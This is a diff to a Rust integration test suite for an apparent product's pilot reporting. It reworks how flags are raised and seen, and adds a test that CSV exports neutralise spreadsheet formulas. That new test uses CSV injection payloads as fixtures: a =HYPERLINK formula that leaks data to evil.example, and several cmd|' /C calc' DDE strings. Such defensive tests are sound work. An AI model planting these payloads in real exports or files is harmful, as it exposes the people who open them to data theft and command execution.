@@ -1,5 +1,5 @@
 //! The pilot against a real Postgres, from a scripted scenario through the
-//! product's own paths: flags raised by the judge's `raise_to` (lag on a
+//! product's own paths: flags raised by the flags' lifecycle `raise` (lag on a
 //! group, a FAILED connector), one dismissed by its owner through the API,
 //! producer changes checked through the REST API the CLI uses in CI, one
 //! proposed for review and approved (the registry double as registry). The
@@ -96,7 +96,8 @@ async fn world(pool: &PgPool) -> (i64, i64, i64) {
 }
 
 /// Raises a flag as a pass does, to the payments team (no webhook: the
-/// in-app list is the notification), its trouble begun `ago` before now.
+/// in-app list is the notification, from when a member sees it there), its
+/// trouble begun `ago` before now.
 async fn raise(
     pool: &PgPool,
     cluster: i64,
@@ -117,14 +118,28 @@ async fn raise(
         onset_ms: (Utc::now() - ago).timestamp_millis(),
         evidence,
     };
-    streamkeeper_server::watch::judge::raise_to(
+    streamkeeper_server::flags::lifecycle::raise(
         pool,
-        &row,
+        row.id,
+        &row.name,
         &o,
         Some((team, "payments".into(), None)),
     )
     .await
     .expect("raise");
+}
+
+/// A member of `team` sees its flags in the app list (what the flags'
+/// list records for its viewer's teams).
+async fn seen(pool: &PgPool, team: i64) {
+    let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM flags WHERE team_id = $1")
+        .bind(team)
+        .fetch_all(pool)
+        .await
+        .expect("flags");
+    streamkeeper_server::flags::store::mark_seen(pool, &ids, &[team])
+        .await
+        .expect("seen");
 }
 
 fn group_key(rule: &str) -> FlagKey {
@@ -241,6 +256,14 @@ async fn the_pilot_shows_exactly_the_durations_of_its_records(pool: PgPool) {
         )
         .await;
     assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
+    // Without its note at all, the same: 422, not the JSON decoder's 400.
+    let mut no_note = input.clone();
+    no_note["baselines"][0] = json!({"metric": "lag_flagged", "ms": 5_400_000});
+    let r = t
+        .api(Method::PUT, "/api/v1/pilot/settings", &mt, Some(no_note))
+        .await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
+    assert!(r.body.contains("say where the"), "{}", r.body);
     input["baselines"][0]["note"] = json!("median of the Q3 on-call tickets");
     let r = t
         .api(
@@ -308,6 +331,9 @@ async fn the_pilot_shows_exactly_the_durations_of_its_records(pool: PgPool) {
         json!({"restart": restart}),
     )
     .await;
+    // The team has no webhook: its member has the flags when she lists them.
+    let r = t.api(Method::GET, "/api/v1/flags", &ot, None).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
     let dismissed: i64 = sqlx::query_scalar(
         "SELECT f.id FROM flags f WHERE f.cluster_id = $1 AND f.rule = 'time-lag'",
     )
@@ -320,7 +346,7 @@ async fn the_pilot_shows_exactly_the_durations_of_its_records(pool: PgPool) {
             Method::POST,
             &format!("/api/v1/flags/{dismissed}/dismiss"),
             &ot,
-            Some(json!({"reason": "expected during the migration"})),
+            Some(json!({"reason": "expected during the migration", "dismissal": "wrong"})),
         )
         .await;
     assert_eq!(r.status, StatusCode::OK, "{}", r.body);
@@ -385,11 +411,10 @@ async fn the_pilot_shows_exactly_the_durations_of_its_records(pool: PgPool) {
     assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
     let item = r.json();
     let r = t
-        .api(
-            Method::POST,
+        .in_person(
             &format!("/api/v1/review-items/{}/approvals", item["id"]),
             &apt,
-            Some(json!({"content_hash": item["content_hash"]})),
+            json!({"content_hash": item["content_hash"]}),
         )
         .await;
     assert_eq!(r.status, StatusCode::OK, "{}", r.body);
@@ -398,7 +423,7 @@ async fn the_pilot_shows_exactly_the_durations_of_its_records(pool: PgPool) {
     let lag = durations(
         &pool,
         &format!(
-            "SELECT 'flag:' || id, onset_at, notified_at FROM flags
+            "SELECT 'flag:' || id, onset_at, seen_at FROM flags
               WHERE cluster_id = {local} AND subject_kind = 'group'"
         ),
     )
@@ -700,6 +725,12 @@ async fn the_pilot_shows_exactly_the_durations_of_its_records(pool: PgPool) {
         );
     }
     assert!(lag_row.contains(&human(lag_ms[0])), "{lag_row}");
+    // Before → now as people say it, not a bare ratio.
+    let said = streamkeeper::pilot::ratio::said(5_400_000, Some(lag_ms[0]));
+    assert!(
+        said.contains("× faster") && lag_row.contains(&said),
+        "{said}: {lag_row}"
+    );
     assert!(lag_row.contains("rests on 2 events (fewer than 5)"));
     assert!(lag_row.contains("median of the Q3 on-call tickets"));
     let reviewed_row = between(&html, r#"<tr data-metric="change_reviewed">"#, "</tr>");
@@ -957,6 +988,7 @@ async fn the_cli_prints_the_day_30_table(pool: PgPool) {
         json!({}),
     )
     .await;
+    seen(&pool, team).await;
     let start = (Utc::now() - chrono::Duration::days(29))
         .date_naive()
         .to_string();
@@ -1027,6 +1059,7 @@ async fn a_pilot_on_streams_covers_the_groups_reading_them(pool: PgPool) {
         json!({}),
     )
     .await;
+    seen(&pool, team).await;
     // Started yesterday: a flag raised 9 min ago is yesterday's just after
     // midnight, and a pilot counts from the start of its first day.
     let started = (Utc::now() - chrono::Duration::days(1)).date_naive();
@@ -1183,10 +1216,9 @@ async fn the_pilot_times_lineage_questions_from_asked_to_answered_and_notified(p
         assert_eq!(r.status, StatusCode::OK, "{}", r.body);
         asked.push(r.json()["question"].as_i64().expect("question"));
     }
-    let (answered, notified): (i64, i64) = sqlx::query_as(
+    let answered: i64 = sqlx::query_scalar(
         // Whole milliseconds, cut as the report cuts them (a cast would round).
-        "SELECT floor(extract(epoch FROM answered_at - asked_at) * 1000)::bigint,
-                floor(extract(epoch FROM notified_at - asked_at) * 1000)::bigint
+        "SELECT floor(extract(epoch FROM answered_at - asked_at) * 1000)::bigint
            FROM lineage_questions WHERE id = $1",
     )
     .bind(asked[0])
@@ -1211,9 +1243,14 @@ async fn the_pilot_times_lineage_questions_from_asked_to_answered_and_notified(p
     );
     assert_eq!(answer["now"]["p50_ms"], answered, "{answer}");
     assert_eq!(answer["baseline_ms"], 172_800_000);
+    // No stream has an owner team: the question reached no owner, which
+    // is no owners notified, and is counted as such.
     let told = row("lineage_notified");
-    assert_eq!(told["now"]["events"], 1, "{told}");
-    assert_eq!(told["now"]["p50_ms"], notified, "{told}");
+    assert_eq!(told["now"]["events"], 0, "{told}");
+    assert_eq!(
+        report["counts"]["questions_reached_no_owner"], 1,
+        "{report}"
+    );
     assert_eq!(
         report["weeks"][0]["figures"]["lineage_answered"]["events"],
         1
@@ -1234,13 +1271,98 @@ async fn the_pilot_times_lineage_questions_from_asked_to_answered_and_notified(p
     let q = format!("lineage-question:{}", asked[0]);
     assert_eq!(
         lineage,
-        [
-            (
-                "lineage_answered".to_string(),
-                q.clone(),
-                "orders".to_string()
-            ),
-            ("lineage_notified".to_string(), q, "orders".to_string()),
-        ]
+        [(
+            "lineage_answered".to_string(),
+            q.clone(),
+            "orders".to_string()
+        ),]
+    );
+}
+
+/// Cells people wrote (a consumer group's name, anyone with Kafka access
+/// chooses; baseline notes) reach both CSVs as text, never as formulas:
+/// OWASP's leading `'` on a cell starting `=`, `+`, `-` or `@`.
+#[sqlx::test(migrator = "streamkeeper_server::platform::db::MIGRATOR")]
+async fn csv_cells_that_look_like_formulas_are_neutralised(pool: PgPool) {
+    const GROUP: &str = r#"=HYPERLINK("http://evil.example/?leak=","go")"#;
+    let t = TestApp::new(pool.clone()).await;
+    let (local, _, team) = world(&pool).await;
+    sqlx::query("UPDATE consumer_groups SET name = $1 WHERE cluster_id = $2")
+        .bind(GROUP)
+        .bind(local)
+        .execute(&pool)
+        .await
+        .expect("rename");
+    let manager = t.user("meg", &[Role::Manager]).await;
+    let mt = t.token(manager).await;
+    let notes = [
+        ("lag_flagged", "+cmd|' /C calc'!A0"),
+        ("change_checked", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("change_reviewed", "-2+3+cmd|' /C calc'!A0"),
+        ("lineage_answered", "=1+1"),
+    ];
+    let baselines: Vec<Value> = notes
+        .iter()
+        .map(|(m, n)| json!({"metric": m, "ms": 60_000, "note": n}))
+        .collect();
+    let input = json!({
+        "scope_kind": "domains",
+        "scope": ["payments"],
+        "started_on": (Utc::now() - chrono::Duration::days(2)).date_naive(),
+        "baselines": baselines,
+    });
+    let r = t
+        .api(Method::PUT, "/api/v1/pilot/settings", &mt, Some(input))
+        .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    store::fresh(&pool).await.expect("tally");
+    let key = FlagKey {
+        subject_kind: "group".into(),
+        subject: GROUP.into(),
+        rule: "lag".into(),
+    };
+    raise(
+        &pool,
+        local,
+        team,
+        key,
+        "STOP",
+        chrono::Duration::minutes(9),
+        json!({}),
+    )
+    .await;
+
+    let r = t
+        .api(Method::GET, "/api/v1/pilot/table.csv", &mt, None)
+        .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let table = csv_rows(&r.body);
+    for (metric, note) in notes {
+        let row = table
+            .iter()
+            .find(|c| c["metric"] == metric)
+            .expect("a row per metric");
+        assert_eq!(row["baseline_note"], format!("'{note}"), "{row:?}");
+    }
+    let r = t
+        .api(Method::GET, "/api/v1/pilot/events.csv", &mt, None)
+        .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let events = csv_rows(&r.body);
+    assert!(!events.is_empty(), "{}", r.body);
+    for e in &events {
+        for (column, cell) in e {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{column}: {cell:?}"
+            );
+        }
+    }
+    assert!(
+        events
+            .iter()
+            .any(|e| e.values().any(|c| *c == format!("'{GROUP}"))),
+        "{}",
+        r.body
     );
 }
